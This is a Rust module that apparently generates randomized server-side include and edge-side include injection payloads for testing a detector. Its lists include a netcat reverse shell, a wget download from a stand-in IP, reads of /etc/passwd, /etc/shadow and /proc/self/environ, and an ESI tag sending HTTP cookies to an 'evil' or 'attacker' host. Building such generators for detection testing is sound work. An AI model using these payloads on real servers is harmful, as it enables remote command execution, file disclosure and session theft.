//! Server-side includes (`<!--#exec cmd="id"-->`) and edge-side includes
//! (`<esi:include src="..."/>`): a directive × its attributes × spacing, case and quoting
//! variants × an optional field value before it × a transport layer.

use crate::mutate::{join, random_case, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct Ssi;

const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "ls -la",
    "cat /etc/passwd",
    "uname -a",
    "nc -e /bin/sh 10.0.0.5 4444",
    "dir",
    "type C:\\boot.ini",
    "wget http://198.51.100.7/s.sh",
    "ping -c 3 127.0.0.1",
];
const FILES: &[&str] = &[
    "/etc/passwd",
    "../../../../etc/shadow",
    "/WEB-INF/web.xml",
    "index.shtml",
    "/proc/self/environ",
    "../config.php",
    "/var/log/apache2/access.log",
];
const VARS: &[&str] = &[
    "DOCUMENT_NAME",
    "DOCUMENT_URI",
    "DATE_LOCAL",
    "LAST_MODIFIED",
    "QUERY_STRING_UNESCAPED",
    "REMOTE_ADDR",
    "SERVER_SOFTWARE",
    "HTTP_COOKIE",
    "AUTH_TYPE",
    "DOCUMENT_ROOT",
];
const PREFIXES: &[&str] = &["", "hello ", "John", "test\">", "comment: ", "</textarea>", "a@b.c "];

fn quote(rng: &mut Rng, value: &str) -> (String, &'static str) {
    match rng.below(6) {
        0 => (format!("'{value}'"), "single-quote"),
        1 if !value.contains(' ') => (value.to_string(), "unquoted"),
        _ => (format!("\"{value}\""), ""),
    }
}

/// A blank run inside a directive: none, spaces, tabs or a newline.
fn gap(rng: &mut Rng, allow_none: bool) -> &'static str {
    let options: &[&str] = if allow_none { &["", "", " ", "  ", "\t", "\n"] } else { &[" ", " ", "  ", "\t", "\n", " \t "] };
    options[rng.below(options.len())]
}

fn ssi_directive(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    let (directive, attrs) = match rng.below(9) {
        0 | 1 => {
            let command = *rng.pick(COMMANDS);
            let (v, q) = quote(rng, command);
            names.push(q);
            (
                "exec",
                if rng.chance(0.85) {
                    format!("cmd={v}")
                } else {
                    format!("cgi=\"/cgi-bin/{}.cgi\"", rng.pick(&["test", "printenv", "status"]))
                },
            )
        }
        2 | 3 => {
            let key = *rng.pick(&["virtual", "file"]);
            let file = *rng.pick(FILES);
            let (v, q) = quote(rng, file);
            names.push(q);
            ("include", format!("{key}={v}"))
        }
        4 => {
            let var = *rng.pick(VARS);
            let extra = if rng.chance(0.3) { " encoding=\"none\"" } else { "" };
            ("echo", format!("var=\"{var}\"{extra}"))
        }
        5 => {
            let attr = match rng.below(3) {
                0 => format!("errmsg=\"{}\"", rng.pick(&["[an error]", "<script>alert(1)</script>", "x"])),
                1 => format!("timefmt=\"{}\"", rng.pick(&["%A %B %d", "%s", "%Y"])),
                _ => "sizefmt=\"bytes\"".to_string(),
            };
            ("config", attr)
        }
        6 => ("printenv", String::new()),
        7 => (*rng.pick(&["fsize", "flastmod"]), format!("{}=\"{}\"", rng.pick(&["file", "virtual"]), rng.pick(FILES))),
        _ => {
            if rng.chance(0.5) {
                ("set", format!("var=\"{}\" value=\"{}\"", rng.pick(&["x", "cmd", "a"]), rng.pick(&["id", "1", "$HTTP_COOKIE"])))
            } else {
                ("if", format!("expr=\"${} = /{}/\"", rng.pick(VARS), rng.pick(&["admin", "x", ".*"])))
            }
        }
    };
    let mut directive = directive.to_string();
    if rng.chance(0.3) {
        directive = random_case(rng, &directive);
        names.push("case");
    }
    let (g1, g2) = (gap(rng, true), gap(rng, true));
    if !g1.is_empty() || !g2.is_empty() {
        names.push("spacing");
    }
    let sep = if attrs.is_empty() { "" } else { gap(rng, false) };
    let end = gap(rng, true);
    format!("<!--{g1}#{g2}{directive}{sep}{attrs}{end}-->")
}

fn esi_tag(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    names.push("esi");
    let host = format!("{}.{}", rng.pick(&["evil", "attacker", "cdn-x", "198.51.100.9"]), rng.pick(&["example", "test", "invalid"]));
    let tag = match rng.below(6) {
        0 | 1 => format!("<esi:include src=\"http://{host}/{}\"/>", rng.pick(&["x.html", "steal?c=$(HTTP_COOKIE)", ""])),
        2 => format!("<esi:vars>$(HTTP_COOKIE{{{}}})</esi:vars>", rng.pick(&["'PHPSESSID'", "'session'", "'JSESSIONID'"])),
        3 => format!("<esi:inline name=\"/{}\" fetchable=\"yes\">x</esi:inline>", rng.pick(&["a", "js/app.js"])),
        4 => format!("<esi:assign name=\"{}\" value=\"$(HTTP_HOST)\"/>", rng.pick(&["var1", "x"])),
        _ => "<esi:debug/>".to_string(),
    };
    if rng.chance(0.3) {
        names.push("case");
        // ESI processors match the namespace prefix case-sensitively but attackers try it.
        tag.replacen("esi:", &random_case(rng, "esi:"), 2)
    } else {
        tag
    }
}

impl Family for Ssi {
    fn name(&self) -> &'static str {
        "ssi"
    }

    fn detector(&self) -> &'static str {
        "ssi"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names: Vec<&'static str> = Vec::new();
        let core = if rng.chance(0.75) { ssi_directive(rng, &mut names) } else { esi_tag(rng, &mut names) };
        let prefix = *rng.pick(PREFIXES);
        if !prefix.is_empty() {
            names.push("prefix");
        }
        let text = format!("{prefix}{core}");
        let (payload, layer) = transport_layer(rng, &text);
        names.push(layer);
        Variant { family: "ssi", mutation: join(&names), payload, carrier: Carrier::Value }
    }
}
